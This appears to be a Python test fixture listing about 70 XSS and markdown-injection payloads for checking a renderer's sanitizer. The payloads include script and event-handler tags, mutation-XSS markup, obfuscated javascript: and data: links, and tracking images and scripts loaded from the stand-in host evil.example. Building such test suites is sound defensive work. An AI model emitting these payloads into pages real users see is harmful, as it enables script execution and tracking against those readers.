"""What a model may write to harm whoever reads it: 70 texts, and what the page may make of them at most."""

EVIL = "https://evil.example"

SCRIPTS = (
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    f"<img src={EVIL}/track.png>",
    f'<img srcset="{EVIL}/a.png 1x" loading=eager>',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f'<svg><use href="{EVIL}/x.svg#a"/></svg>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    f'<iframe src="{EVIL}"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}">',
    f'<base href="{EVIL}/">\n\n[x](y)',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<link rel=stylesheet href="{EVIL}/x.css">',
    f'<form action="{EVIL}"><input name=q autofocus onfocus=alert(1)><button>x</button></form>',
    f"<style>@import url({EVIL}/x.css); * {{background: url({EVIL}/t.png)}}</style>",
    f'<p style="background:url({EVIL}/t.png)">x</p>',
    '<div is="x-evil" onclick=alert(1) id=location name=cookie>x</div>',
    "<template><script>alert(1)</script></template>",
    "<a href='https://a.example' onclick='alert(1)'>x</a>",
    "a <b onmouseover=alert(1)>b</b> <marquee onstart=alert(1)>c</marquee>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
)
"""Markup."""

MUTANTS = (
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
)
"""Markup that changes its meaning when it is read a second time."""

LINKS = (
    "[x](javascript:alert(1))",
    "[x](  JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:https://evil.example/1)",
    "[x](//evil.example) [y](\\\\evil.example) [z](/v1/jobs)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x] [x][] [y][x]",
    "[x]: <data:text/html,1> 'x'\n\n[x]",
    "<javascript:alert(1)> <https://a.example/?<script>>",
    "https://a.example/\"onmouseover=alert(1) www.a.example/'><img src=x>",
    "[javascript:alert(1)](https://a.example) [https://bank.example](https://a.example)",
    f"![x]({EVIL}/track.png)",
    f"![x][y]\n\n[y]: {EVIL}/track.png",
    f"[![x]({EVIL}/i.png)](javascript:alert(1))",
    f'![x](x "onerror=alert(1)") ![<img src={EVIL}/t.png>](y)',
    "[<img src=x onerror=alert(1)>](https://a.example)",
)
"""Addresses."""

SHAPES = (
    "`<img src=x onerror=alert(1)>` ``<script>``",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>\nalert(1)",
    '~~~"onmouseover=alert(1) x\nunclosed <img src=x onerror=alert(1)>',
    "# <a href='javascript:alert(1)'>x</a>\n\n> <svg/onload=alert(1)>",
    "| <img src=x> |\n|:-:|\n| <script>1</script> \\| [x](javascript:alert(1)) |",
    "|" + "a|" * 40 + "\n|" + "-|" * 40 + "\n|" + "<b>|" * 40,
    "- [ ] <script>alert(1)</script>\n- [x] [y](javascript:alert(1))\n  1. <img src=x>",
    "*_" * 30 + "<img src=x onerror=alert(1)>" + "_*" * 30,
    "[" * 60 + "x](javascript:alert(1))" * 3,
    "> " * 40 + "<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;script&amp;gt; &#x3c;svg/onload=alert(1)&#x3e; &#0; &#xD800; &#1114112;",
    "\u202e)1(trela:tpircsavaj\u202c [\u202egro.elpmaxe](https://a.example)",
    "<scr\u200bipt>alert(1)</scr\u200bipt> java\u200dscript:alert(1) \ufeff<img src=x onerror=alert(1)>",
    "\x00<scr\x00ipt>alert(1)</script>\x00 [x](java\x00script:alert(1)) \x1b[31m \x7f",
    "\ud83d<img src=x onerror=alert(1)>\ude00",
    "W" * 400 + "<script>alert(1)</script>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 1 %> #{1}",
    "__proto__ constructor [__proto__](https://a.example) [toString]: x\n\n[toString] [constructor][__proto__]",
)
"""Markdown that is twisted, endless or broken."""

HOSTILE = (*SCRIPTS, *MUTANTS, *LINKS, *SHAPES)
